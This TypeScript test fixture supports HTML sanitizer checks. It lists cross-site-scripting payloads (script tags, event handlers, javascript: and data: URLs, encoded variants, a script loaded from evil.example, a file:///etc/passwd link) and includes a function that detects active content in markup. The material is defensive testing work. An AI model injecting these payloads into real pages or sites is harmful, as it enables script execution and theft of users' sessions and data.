/** Hostile strings for safety tests: markup, event handlers, script URLs, CSS and entity tricks. */
export const TEXT_PAYLOADS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '"><script>alert(1)</script>',
  "'><img src=x onerror='alert(1)'>",
  '<a href="javascript:alert(1)">click</a>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="width:expression(alert(1))">x</p>',
  "</style><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "&#x3C;img src=x onerror=alert(1)&#x3E;",
  "[click me](javascript:alert(1))",
  "![pic](javascript:alert(1))",
  "<javascript:alert(1)>",
  '<https://example.org/" onmouseover="alert(1)>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<!--<img src=x onerror=alert(1)>-->",
  "<details open ontoggle=alert(1)>",
  "\u0000<script>alert(1)</script>",
  "javascript:alert(1)",
] as const;

/** Link targets that must never become links. */
export const HREF_PAYLOADS = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "\u0001javascript:alert(1)",
  "javascript&colon;alert(1)",
  "&#106;avascript:alert(1)",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "vbscript:msgbox(1)",
  "file:///etc/passwd",
  "//evil.example/x",
  '" onmouseover="alert(1)',
] as const;

const TAG = /<\/?([a-zA-Z][\w:-]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/g;
const ATTRIBUTE = /([^\s=/"'>]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s>]+))?/g;
const URL_ATTRIBUTES = new Set(["href", "src", "action", "formaction", "xlink:href", "poster", "data", "srcset"]);

/**
 * Every problem that would let markup run script in a browser: tags outside `allowedTags`, event
 * handler or style attributes, and URL attributes that are not http(s), mailto or a fragment.
 * Text is not inspected: escaped payloads stay visible as text, which is what we want.
 */
export function activeContent(html: string, allowedTags: ReadonlySet<string>): string[] {
  const problems: string[] = [];
  for (const [tag, name, attributes] of html.matchAll(TAG)) {
    if (!allowedTags.has(name!.toLowerCase())) problems.push(`tag <${name}> in ${tag}`);
    for (const [, attr, rawValue] of attributes!.matchAll(ATTRIBUTE)) {
      const key = attr!.toLowerCase();
      const value = (rawValue ?? "").replace(/^["']|["']$/g, "");
      if (key.startsWith("on")) problems.push(`event handler ${key} in ${tag}`);
      if (key === "style") problems.push(`style attribute in ${tag}`);
      if (URL_ATTRIBUTES.has(key) && !/^(https?:|mailto:|#)/i.test(value)) problems.push(`${key}="${value}" in ${tag}`);
    }
  }
  return problems;
}
